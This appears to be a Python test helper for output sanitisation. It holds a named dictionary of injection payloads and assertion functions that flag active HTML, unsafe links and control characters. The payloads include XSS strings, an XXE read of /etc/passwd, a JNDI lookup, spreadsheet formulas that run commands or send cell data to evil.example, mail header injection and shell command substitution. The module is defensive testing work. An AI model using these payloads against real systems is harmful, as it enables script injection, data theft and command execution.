"""Texts that people or machines might write to harm whoever reads them, and how a reader would see it.

`HOSTILE` is by name, so that a failed test says which. The checks look at what a browser, a chat, a
spreadsheet or a terminal would make of a text, never at how it was escaped.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

HOSTILE: dict[str, str] = {
    "script": "<script>alert('canary')</script>",
    "script in capitals": "<ScRiPt SRC=//evil.example/x.js></sCrIpT>",
    "script in script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "closed attribute": '"><script>alert(1)</script>',
    "closed title": "</title><script>alert(1)</script>",
    "closed style": "</style><img src=x onerror=alert(1)>",
    "closed text area": "</textarea><script>alert(1)</script>",
    "closed main": "</p></li></main></body></html><script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "image without an end": "<img src=x onerror=alert(1) ",
    "picture from elsewhere": '<img src="https://evil.example/pixel.png">',
    "svg": "<svg/onload=alert(1)>",
    "svg with script": "<svg><script>alert(1)</script></svg>",
    "math": '<math><mtext><table><mglyph><style><img src onerror="alert(1)">',
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "object": '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "embed": "<embed src=javascript:alert(1)>",
    "form": '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
    "base": '<base href="https://evil.example/">',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "link": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "style": "<style>body{background:url(https://evil.example)}</style>",
    "style attribute": '<p style="position:fixed;inset:0">canary</p>',
    "handler": '<b onmouseover="alert(1)">canary</b>',
    "details": "<details open ontoggle=alert(1)>",
    "video": "<video><source onerror=alert(1)></video>",
    "comment": "<!--><script>alert(1)</script-->",
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "end of cdata": "]]><script>alert(1)</script>",
    "entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "written entity": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;alert(1)",
    "template element": "<template><script>alert(1)</script></template>",
    "no script element": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "Markdown script link": "[canary](javascript:alert(1))",
    "Markdown script link in disguise": "[canary](java\tscript:alert(1)) [x](&#106;avascript:alert(1))",
    "Markdown script link with blanks": "[canary]( \x01javascript:alert(1))",
    "Markdown data link": "[canary](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "Markdown file link": "[canary](file:///etc/passwd) [canary](vbscript:x)",
    "Markdown plain link": "[canary](http://plain.example)",
    "Markdown link to ourselves": "[canary](/i/checkout-1) [canary](//evil.example)",
    "Markdown mask": "[https://bank.example/login](https://evil.example/login)",
    "Markdown user": "[canary](https://bank.example@evil.example/)",
    "Markdown attribute": '[canary](https://evil.example "onmouseover=alert(1)")',
    "Markdown broken attribute": '[canary](https://evil.example/"onmouseover="alert(1))',
    "Markdown image": "![canary](https://evil.example/pixel.png)",
    "Markdown image script": "![canary](javascript:alert(1))",
    "Markdown reference": "[canary][1]\n\n[1]: javascript:alert(1)",
    "Markdown automatic link": "<javascript:alert(1)> <https://evil.example/><script>",
    "Markdown HTML block": "<div>\n\n**canary**\n\n<script>alert(1)</script></div>",
    "Markdown code": "`<script>alert(1)</script>` ```html\n<img src=x onerror=alert(1)>\n```",
    "Markdown heading": "# canary\ncanary\n===\n\n---\n> canary\n\n| a | b |\n|---|---|\n| c | d |",
    "Slack everybody": "<!channel> <!here> <!everyone> @channel @here @everyone",
    "Slack person": "<@U02ABCDEF> <@W02ABCDEF|canary>",
    "Slack group": "<!subteam^S02ABCDEF|@canary>",
    "Slack mask": "<https://evil.example|https://bank.example>",
    "Slack channel": "<#C02ABCDEF> <!date^1392734382^{date}^https://evil.example|canary>",
    "Slack escaped": "&lt;!channel&gt; &amp;lt;!here&amp;gt;",
    "header": "canary\r\nBcc: victim@example.com",
    "header with a line feed": "canary\nBcc: victim@example.com\n\nAnother body",
    "header with a carriage return": "canary\rX-Canary: 1",
    "header folded": "canary\r\n Bcc: victim@example.com",
    "header encoded": "=?utf-8?q?canary=0d=0aBcc:_victim=40example.com?=",
    "header by strange line ends": "canary\x0bBcc: a@x\x0cBcc: b@x\x85Bcc: c@x\u2028Bcc: d@x\u2029Bcc: e@x",
    "end of the mail": "canary\r\n.\r\nMAIL FROM:<evil@example.com>\r\nRCPT TO:<victim@example.com>",
    "part of a mail": "canary\r\n--===============0==\r\nContent-Type: text/html\r\n\r\n<script>",
    "formula": "=1+1",
    "formula that runs": "=cmd|' /C calc'!A0",
    "formula that calls": '=HYPERLINK("https://evil.example?"&A1,"canary")',
    "formula by plus": "+1+cmd|' /C calc'!A0",
    "formula by minus": "-1+cmd|' /C calc'!A0",
    "formula by at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula behind blanks": " \t=1+1",
    "formula behind a line end": "\r\n=1+1",
    "formula in a quote": '"\r\n"=1+1","',
    "formula in full width": "\uff1d1\uff0b1",
    "terminal colour": "\x1b[31mcanary\x1b[0m",
    "terminal cleared": "\x1b[2J\x1b[1;1Hcanary",
    "terminal title": "\x1b]0;canary\x07",
    "terminal link": "\x1b]8;;https://evil.example\x1b\\canary\x1b]8;;\x1b\\",
    "terminal by C1": "\x9b31mcanary\x9d0;canary\x9c",
    "terminal line eaten": "canary\x08\x08\x08\x08\x08\x08resolved\x7f",
    "reversed": "\u202egnp.exe\u202c canary",
    "reversed by isolates": "\u2067canary\u2069 \u2066\u2068 \u200f\u200e\u061c",
    "accents": "Z" + "\u0351\u036b\u0343" * 300,
    "null": "can\x00ary\x00",
    "half characters": "\ud83dcanary\udc00",
    "no characters": "canary\ufeff\ufffe\uffff\ufff9x\ufffa",
    "huge": "canary " * 2_000,
    "huge word": "A" * 16_000,
    "deep": "> " * 500 + "- " * 500 + "[" * 500 + "canary",
    "many emphases": "*canary_ " * 1_500,
    "template": "{{7*7}} {% for x in range(9) %}{{x}}{% endfor %} {# canary #}",
    "template that climbs": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "other templates": "${7*7} #{7*7} <%= 7*7 %> ${jndi:ldap://evil.example/a}",
    "format": "%s%s%n {0.__class__} {incident.summary}",
    "social mention": "@everyone @alice@social.example .@x \uff20alice #canary",
    "shell": "$(touch /tmp/canary) `touch /tmp/canary` ; touch /tmp/canary",
}

CONTROLS = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]"
)
"""What a terminal obeys, what ends a line where nobody sees it, what makes text read as what it is not."""
ACTIVE = {
    "script", "iframe", "object", "embed", "form", "input", "button", "base", "link", "svg", "math", "img",
    "video", "audio", "source", "template", "noscript", "details", "textarea", "frame", "applet",
}  # fmt: skip
"""Elements that run, load, send or take something; a page that has some of its own says so."""


class Nodes(HTMLParser):
    """Every element of a document with its attributes, as a parser sees them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def refuse_active(html: str, *, own: frozenset[str] = frozenset(), places: str = "https") -> None:
    """Fail where a document has a node that runs, loads or leads where it must not.

    Args:
        own: elements that the document has by itself.
        places: schemes of links, with a blank between them.
    """
    for tag, attributes in Nodes(html).tags:
        assert tag not in ACTIVE - own, tag
        for name, value in attributes.items():
            assert not name.startswith("on"), (tag, name)
            assert name not in ("srcdoc", "formaction", "action", "ping", "background"), (tag, name)
            if name in ("href", "src") and tag != "link":
                scheme = urlsplit((value or "").strip()).scheme
                assert scheme in ("", *places.split()), (tag, value)
                assert not (value or "").startswith("//"), (tag, value)
    assert not CONTROLS.search(html)


def refuse_controls(text: str, *, lines: bool = True) -> None:
    """Fail where a text holds what a terminal obeys, or a second line where one is meant."""
    assert not CONTROLS.search(text), repr(CONTROLS.search(text))
    assert lines or not re.search(r"[\n\r\t]", text)
